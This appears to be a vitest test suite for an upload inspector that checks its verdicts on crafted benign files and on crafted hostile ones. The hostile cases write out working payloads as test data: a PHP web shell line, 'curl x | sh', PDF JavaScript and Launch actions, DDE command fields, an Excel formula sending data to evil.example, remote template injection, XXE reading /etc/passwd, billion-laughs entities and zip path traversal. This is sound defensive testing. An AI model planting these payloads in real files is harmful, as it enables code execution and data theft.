import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { inspectFile } from '../../../server/core/files/inspect/index.ts';
import { fileTypes } from '../../../server/core/files/inspect/types.ts';
import { english } from '../../../server/core/i18n/translator.ts';
import { number as amounts, readerIn } from '../../../server/core/writers/data.ts';
import { bytesOf } from '../../../server/core/writers/writers.ts';
import {
  docx,
  docxParts,
  field,
  jpeg,
  paragraph,
  pdf,
  png,
  relationsOf,
  run,
  sheetMain,
  typesOf,
  wordMain,
  xlsx,
  xlsxParts,
  zipOf,
} from './corpus.ts';

const folder = mkdtempSync(join(tmpdir(), 'quarterdeck-files-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
let number = 0;
/** Inspection result of a file, from the process that inspects uploads. */
const verdictOf = async (name: string, bytes: Buffer) => {
  const path = join(folder, String(++number));
  writeFileSync(path, bytes);
  return inspectFile(name, path);
};

const link = { type: 'hyperlink', target: 'https://example.com/terms', external: true };
const elsewhere = (type: string, target: string) => relationsOf({ type, target, external: true });
const types = (main: string, part: string, more = '') => [['[Content_Types].xml', typesOf(main, part, more)]] as const;
const entity = (body: string) =>
  `<?xml version="1.0"?><!DOCTYPE w [${body}]><w:document xmlns:w="x"><w:body>&a;</w:body></w:document>`;
const laughter = Array.from(
  { length: 9 },
  (_, n) => `<!ENTITY ${'abcdefghi'[n]} "${n ? `&${'abcdefghi'[n - 1]};`.repeat(10) : 'ha'}">`,
).join('');
const signed = (bytes: Buffer, at: number, value: number, from = 'PK\x01\x02') => {
  const changed = Buffer.from(bytes);
  changed.writeUInt32LE(value, changed.indexOf(Buffer.from(from, 'latin1')) + at);
  return changed;
};

type Case = readonly [says: string, name: string, make: () => Buffer | Promise<Buffer>];
const hostile: readonly Case[] = [
  ['a program under another name', 'invoice.pdf', () => Buffer.from('MZ\x90\0\x03', 'latin1')],
  ['a page under another name', 'page.txt', () => Buffer.from('<html><script>alert(1)</script>')],
  ['a page after a mark', 'page.txt', () => Buffer.from('\ufeff<!DOCTYPE html><p>')],
  ['a drawing with a script', 'drawing.txt', () => Buffer.from('<svg onload="alert(1)"/>')],
  ['a script', 'run.txt', () => Buffer.from('#!/bin/sh\ncurl x | sh')],
  ['a text with a NUL', 'notes.txt', () => Buffer.from('a\0b')],
  ['a text in no known letters', 'notes.txt', () => Buffer.from([0xe9, 0x20, 0xff])],
  ['a PDF as a text', 'notes.txt', () => pdf('<</Type/Catalog>>')],
  ['a rich text as a text', 'notes.txt', () => Buffer.from('{\\rtf1\\object}')],
  ['a PDF with a script', 'a.pdf', () => pdf('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')],
  ['a PDF with a hidden script', 'a.pdf', () => pdf('<</OpenAction<</S/J#61vaScript>>>>')],
  ['a PDF that starts a program', 'a.pdf', () => pdf('<</S/Launch/F(cmd.exe)>>')],
  ['a PDF with a file inside', 'a.pdf', () => pdf('<</Type/EmbeddedFile>>')],
  ['a PDF under a password', 'a.pdf', () => pdf('<</Encrypt 5 0 R>>')],
  ['a PDF without its end', 'a.pdf', () => pdf('<</Type/Catalog>>').subarray(0, -8)],
  ['a PDF after something else', 'a.pdf', () => Buffer.concat([Buffer.from('GIF89a'), pdf('<<>>')])],
  [
    'a PDF that is a page too',
    'a.pdf',
    () => Buffer.from(`%PDF-1.7\n<html><script>alert(1)</script>\n${pdf('<<>>').subarray(9)}`),
  ],
  ['a PDF that is an archive too', 'a.pdf', async () => Buffer.concat([pdf('<<>>'), await zipOf([['a.txt', 'x']])])],
  [
    'a PDF that is an archive too, with another end',
    'a.pdf',
    async () => Buffer.concat([pdf('<<>>'), await zipOf([['a.txt', 'x']]), Buffer.from('\n%%EOF\n')]),
  ],
  [
    'a PDF with something after its end',
    'a.pdf',
    () => Buffer.concat([pdf('<<>>'), Buffer.from('<?php system($_GET[0]);')]),
  ],
  ['a picture of too many points', 'a.png', () => png(50_000, 50_000)],
  ['a photo of too many points', 'a.jpg', () => jpeg(65_500, 65_500)],
  ['a picture with something after its end', 'a.png', () => Buffer.concat([png(2, 2), Buffer.from('PK\x03\x04')])],
  [
    'a photo with something after its end',
    'a.jpg',
    () => Buffer.concat([jpeg(2, 2), Buffer.from('<?php ?>\xff\xd9', 'latin1')]),
  ],
  ['a picture without points', 'a.png', () => Buffer.concat([png(2, 2).subarray(0, 33), png(2, 2).subarray(-12)])],
  ['a photo without a frame', 'a.jpg', () => Buffer.from([0xff, 0xd8, 0xff, 0xd9])],
  ['a picture as a photo', 'a.jpg', () => png(2, 2)],
  ['a Word file with macros', 'a.docx', () => docx('', [['word/vbaProject.bin', 'x']])],
  [
    'a Word file of a type with macros',
    'a.docx',
    () => docx('', types('application/vnd.ms-word.document.macroEnabled.main+xml', '/word/document.xml')),
  ],
  [
    'a template as a Word file',
    'a.docx',
    () =>
      docx(
        '',
        types('application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml', '/word/document.xml'),
      ),
  ],
  ['a Word file of the type of Excel', 'a.docx', () => docx('', types(sheetMain, '/word/document.xml'))],
  ['an Excel file as a Word file', 'a.docx', () => xlsx()],
  ['a Word file whose main part is another', 'a.docx', () => docx('', types(wordMain, '/word/other.xml'))],
  [
    'an Excel file with macros',
    'a.xlsx',
    () => xlsx(undefined, types('application/vnd.ms-excel.sheet.macroEnabled.main+xml', '/xl/workbook.xml')),
  ],
  [
    'an Excel file of bytes',
    'a.xlsx',
    () => xlsx(undefined, types('application/vnd.ms-excel.sheet.binary.macroEnabled.main', '/xl/workbook.xml')),
  ],
  [
    'a sheet of macros',
    'a.xlsx',
    () => xlsx(undefined, [['xl/macrosheets/sheet1.xml', '<xm:macrosheet xmlns:xm="x"/>']]),
  ],
  [
    'a name that runs when opened',
    'a.xlsx',
    () =>
      xlsx(undefined, [
        ['xl/names.xml', '<definedNames><definedName name="_xlnm.Auto_Open">x</definedName></definedNames>'],
      ]),
  ],
  ['an archive as a Word file', 'a.docx', () => zipOf([['readme.txt', 'hello']])],
  [
    'an archive that unpacks without end',
    'a.docx',
    () => docx('', [['word/media/a.png', Buffer.alloc(60 * 1024 * 1024)]]),
  ],
  [
    'parts that are too many',
    'a.docx',
    () =>
      docx(
        '',
        Array.from({ length: 3000 }, (_, n) => [`word/media/${n}.png`, 'x'] as const),
      ),
  ],
  ['a part that says it is small', 'a.docx', async () => signed(await docx('', []), 24, 5)],
  ['a part that points out of the folder', 'a.docx', () => docx('', [['../../../etc/cron.d/x.xml', '<a/>']])],
  ['a part at the root of the disk', 'a.docx', () => docx('', [['/etc/passwd.xml', '<a/>']])],
  ['a part on a drive', 'a.docx', () => docx('', [['c:/windows/a.xml', '<a/>']])],
  ['a part with backslashes', 'a.docx', () => docx('', [['word\\..\\..\\a.xml', '<a/>']])],
  ['a part with a NUL in its name', 'a.docx', () => docx('', [['word/a.xml\0.png', '<a/>']])],
  ['a part that is a link', 'a.docx', () => zipOf(docxParts(), { mode: 0o120777 })],
  ['two parts of one name', 'a.docx', () => zipOf([...docxParts(), ['word/document.xml', '<other/>']])],
  [
    'two parts of one name in other letters',
    'a.docx',
    () => zipOf([...docxParts(), ['Word/Document.xml', '<other/>']]),
  ],
  [
    'a part under two names',
    'a.docx',
    async () => {
      const bytes = await docx();
      bytes.write('word/dacument.xml', bytes.indexOf('word/document.xml'));
      return bytes;
    },
  ],
  ['something before the archive', 'a.docx', async () => Buffer.concat([Buffer.from('#!/bin/sh\n'), await docx()])],
  ['something after the archive', 'a.docx', async () => Buffer.concat([await docx(), Buffer.from('<script>')])],
  [
    'an archive under a password',
    'a.docx',
    async () => {
      const bytes = await docx();
      bytes.writeUInt16LE(1, bytes.indexOf(Buffer.from('PK\x01\x02', 'latin1')) + 8);
      return bytes;
    },
  ],
  [
    'an entity from elsewhere',
    'a.docx',
    () => docx('', [['word/document.xml', entity('<!ENTITY a SYSTEM "file:///etc/passwd">')]]),
  ],
  [
    'a document type from elsewhere',
    'a.docx',
    () => docx('', [['word/document.xml', '<!DOCTYPE a SYSTEM "http://x/a.dtd"><a/>']]),
  ],
  ['laughter', 'a.docx', () => docx('', [['word/document.xml', entity(laughter)]])],
  ['laughter in the relations', 'a.docx', () => docx('', [['word/_rels/document.xml.rels', entity(laughter)]])],
  [
    'laughter in other letters',
    'a.docx',
    () => docx('', [['word/document.xml', Buffer.from(`\ufeff${entity(laughter)}`, 'utf16le')]]),
  ],
  [
    'letters that are not what they say',
    'a.docx',
    () => docx('', [['word/document.xml', '<?xml version="1.0" encoding="utf-7"?><a/>']]),
  ],
  [
    'elements without end',
    'a.docx',
    () => docx('', [['word/document.xml', `${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`]]),
  ],
  ['no XML', 'a.docx', () => docx('', [['word/document.xml', '<w:document']])],
  [
    'a template from elsewhere',
    'a.docx',
    () => docx('', [['word/_rels/settings.xml.rels', elsewhere('attachedTemplate', 'https://evil.example/t.dotm')]]),
  ],
  [
    'a picture from elsewhere',
    'a.docx',
    () => docx('', [['word/_rels/document.xml.rels', elsewhere('image', 'https://evil.example/pixel.png')]]),
  ],
  [
    'an object from elsewhere',
    'a.docx',
    () => docx('', [['word/_rels/document.xml.rels', elsewhere('oleObject', 'http://evil.example/a.html!')]]),
  ],
  [
    'a link into the network',
    'a.docx',
    () => docx('', [['word/_rels/document.xml.rels', elsewhere('hyperlink', 'file://server/share/a')]]),
  ],
  [
    'a link with a script',
    'a.docx',
    () => docx('', [['word/_rels/document.xml.rels', elsewhere('hyperlink', 'javascript:alert(1)')]]),
  ],
  [
    'a relation out of the file',
    'a.docx',
    () => docx('', [['word/_rels/document.xml.rels', relationsOf({ type: 'image', target: '../../../a.png' })]]),
  ],
  [
    'a workbook from elsewhere',
    'a.xlsx',
    () =>
      xlsx(undefined, [
        ['xl/externalLinks/_rels/externalLink1.xml.rels', elsewhere('externalLinkPath', 'file:///c:/a.xlsx')],
      ]),
  ],
  ['an object inside', 'a.docx', () => docx('', [['word/embeddings/oleObject1.bin', 'x']])],
  [
    'a document inside',
    'a.docx',
    () => docx('', [['word/_rels/document.xml.rels', relationsOf({ type: 'aFChunk', target: 'a.xml' })]]),
  ],
  ['an archive inside', 'a.docx', () => docx('', [['word/media/a.zip', 'x']])],
  ['a control inside', 'a.docx', () => docx('', [['word/activeX/activeX1.bin', 'x']])],
  ['DDE in a field', 'a.docx', () => docx(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))],
  ['DDE in a field in pieces', 'a.docx', () => docx(field(' DD', 'EA', 'UTO c:\\\\cmd.exe '))],
  ['DDE in a simple field', 'a.docx', () => docx(paragraph('<w:fldSimple w:instr=" dde cmd x "/>'))],
  ['a field that loads a picture', 'a.docx', () => docx(field(' INCLUDEPICTURE "https://evil.example/a.png" '))],
  ['DDE in a formula', 'a.xlsx', () => xlsx("<row><c><f>cmd|'/C calc'!A0</f></c></row>")],
  [
    'DDE in a link',
    'a.xlsx',
    () =>
      xlsx(undefined, [
        [
          'xl/externalLinks/externalLink1.xml',
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ],
      ]),
  ],
  [
    'a formula that calls out',
    'a.xlsx',
    () => xlsx('<row><c><f>WEBSERVICE("https://evil.example/?"&amp;A1)</f></c></row>'),
  ],
  [
    'connections to elsewhere',
    'a.xlsx',
    () =>
      xlsx(undefined, [
        ['xl/_rels/workbook.xml.rels', relationsOf({ type: 'connections', target: 'connections.xml' })],
      ]),
  ],
  ['a script in a drawing', 'a.docx', () => docx('', [['word/media/a.svg', '<svg><script>alert(1)</script></svg>']])],
  ['a program of the shell', 'a.exe', () => Buffer.from('MZ')],
  ['a page by its name', 'a.html', () => Buffer.from('hello')],
  ['two names', 'a.pdf.exe', () => pdf('<<>>')],
  ['nothing', 'a.pdf', () => Buffer.alloc(0)],
];

test.each(hostile)('%s is refused in a sentence', async (_, name, make) => {
  const verdict = await verdictOf(name, await make());
  expect('problem' in verdict && english.say(verdict.problem)).toMatch(/^[A-Z].*\.$/);
});

const benign: readonly Case[] = [
  ['a text', 'notes.txt', () => Buffer.from('MZ is short for Mainz.\n<b> is no tag here.\nÄöü')],
  ['a PDF', 'a.pdf', () => pdf('<</Type/Catalog/OpenAction[3 0 R/Fit]>>', '<</A<</S/URI/URI(https://example.com)>>>>')],
  [
    'a PDF of our own',
    'a.pdf',
    () => bytesOf('pdf', { title: 'Łódź', about: [], sections: [], reader: readerIn(english) }),
  ],
  [
    'a PDF whose picture spells an archive by chance',
    'a.pdf',
    () => pdf(`<</Length 40>>\nstream\n${'PK\x05\x06'.padEnd(40, 'z')}\nendstream`),
  ],
  [
    'a Word file with links and a picture',
    'a.docx',
    () =>
      docx(field(' HYPERLINK "https://example.com/dde link " '), [
        [
          'word/_rels/document.xml.rels',
          relationsOf(
            link,
            { type: 'hyperlink', target: 'mailto:a@example.com', external: true },
            { type: 'image', target: 'media/image1.png' },
            { type: 'styles', target: 'styles.xml' },
          ),
        ],
        ['word/media/image1.png', png(20, 20)],
        ['word/styles.xml', '<w:styles xmlns:w="x"/>'],
        ['customXml/item1.xml', '<?mso-contentType?><a/>'],
        ['customXml/_rels/item1.xml.rels', relationsOf({ type: 'customXmlProps', target: 'itemProps1.xml' })],
      ]),
  ],
  [
    'a Word file with page numbers and a table of contents',
    'a.docx',
    () =>
      docx(
        field(' PAGE ') + field(' TOC \\o "1-3" \\h ') + paragraph(run('<w:t>DDE is dead; the LINK is below.</w:t>')),
      ),
  ],
  [
    'an Excel file with formulas and a printer',
    'a.xlsx',
    () =>
      xlsx(
        '<row><c><f>IF(A1="a|b",CALLS!B2,"c|d"&amp;\'P|L\'!A1)</f></c><c><f>SUM(_xlfn.XLOOKUP(A1,B:B,C:C))</f></c></row>',
        [['xl/printerSettings/printerSettings1.bin', randomBytes(64)]],
      ),
  ],
  [
    'an Excel file of our own',
    'a.xlsx',
    () =>
      bytesOf('xlsx', {
        title: 'x',
        about: [],
        sections: [{ heading: 'Fees', columns: [amounts('A')], rows: [['1']] }],
        reader: readerIn(english),
      }),
  ],
  [
    'an Excel file of ten thousand rows',
    'a.xlsx',
    () => xlsx('<row><c><v>1</v></c><c t="inlineStr"><is><t>Management fee</t></is></c></row>'.repeat(10_000)),
  ],
  ['a picture', 'a.png', () => png(6000, 6000)],
  ['a photo', 'a.jpeg', () => jpeg(6000, 4000, { comment: 'with a \xff in it' })],
  ['a photo with a second one after it', 'a.jpg', () => Buffer.concat([jpeg(4000, 3000), jpeg(160, 120)])],
];

test.each(benign)('%s is accepted', async (_, name, make) => {
  const extension = name.split('.').at(-1) as keyof typeof fileTypes;
  expect(await verdictOf(name, await make())).toEqual({ mimeType: fileTypes[extension] });
});

test('both samples are large enough', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(49);
  expect(benign.length).toBeGreaterThanOrEqual(10);
});

test('many concurrent files are inspected in sequence, and none twice', async () => {
  const verdicts = await Promise.all(
    Array.from({ length: 20 }, async (_, n) => verdictOf(n % 2 ? 'a.pdf' : 'a.png', n % 2 ? pdf('<<>>') : png(2, 2))),
  );
  expect(verdicts).toEqual(verdicts.map((_, n) => ({ mimeType: n % 2 ? 'application/pdf' : 'image/png' })));
});

test('every prefix and every flipped byte of a file is answered without a server error', async () => {
  for (const [name, bytes] of [
    ['a.docx', await zipOf(xlsxParts())],
    ['a.xlsx', await xlsx()],
    ['a.png', png(9, 9)],
    ['a.jpg', jpeg(9, 9)],
    ['a.pdf', pdf('<<>>')],
  ] as const)
    for (let n = 0; n < 60; n += 1) {
      const at = Math.floor((n / 60) * bytes.length);
      const flipped = Buffer.from(bytes);
      flipped[at] = (flipped[at] ?? 0) ^ 0x55;
      for (const odd of [bytes.subarray(0, at), flipped])
        expect(Object.keys(await verdictOf(name, odd))).toHaveLength(1);
    }
});
